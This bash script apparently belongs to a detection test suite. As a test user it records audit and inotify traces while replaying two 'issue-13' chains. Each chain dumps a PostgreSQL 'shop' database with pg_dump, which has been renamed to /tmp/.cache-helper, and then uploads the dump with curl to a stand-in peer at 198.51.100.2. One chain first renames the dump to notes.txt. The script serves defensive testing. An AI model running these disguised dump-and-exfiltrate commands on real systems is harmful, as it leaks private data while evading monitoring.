#!/bin/bash
# Records the issue-13 chains on this machine, as root: kernel audit (execve and connect, via auditd)
# and inotify (inotifywait) while a login user (loginuid set, as pam_loginuid does) runs the commands.
# Output: OUT/audit.log (raw audit records), OUT/inotify.log, OUT/stat.log (stat right after each step,
# what osquery's inotify handler reads), OUT/marks.log (phase boundaries, the session shell).
# tests/test_detect_db_connect.py converts them to osquery 5.23.1 rows, runs the pack's SQL, then correlates.
# Needs auditd and inotify-tools (apt-get install auditd inotify-tools), PostgreSQL 15 and the test users
# of tests/dbservers.py. Tests read the committed recording; only re-recording needs root.
set -euo pipefail
OUT=${1:?usage: record_issue13.sh OUTDIR}
USER_NAME=dbw_mallory
W=/tmp/dbw13rec
PEER=198.51.100.2; NS=dbw13ns; VH=dbw13h0; VP=dbw13p0
mkdir -p "$OUT"; rm -rf "$W"; mkdir -m 1777 "$W"
extra_cleanup() { rm -rf /tmp/.cache-helper; }
before_session() { true; }
. "$(dirname "$0")/../record_common.sh"
mark "renamed-begin"
run "cp $PGBIN/pg_dump /tmp/.cache-helper"
run "/tmp/.cache-helper -h 127.0.0.1 -U app -f $W/y.sql shop"
run "curl -s -m 10 -T $W/y.sql http://$PEER:8080/u"
mark "renamed-end"
sleep 2
mark "unix-begin"
run "/tmp/.cache-helper -h $BASE/sock -U app -f $W/z.sql shop"
run "mv $W/z.sql $W/notes.txt"
run "curl -s -m 10 -T $W/notes.txt http://$PEER:8080/u"
mark "unix-end"
finish
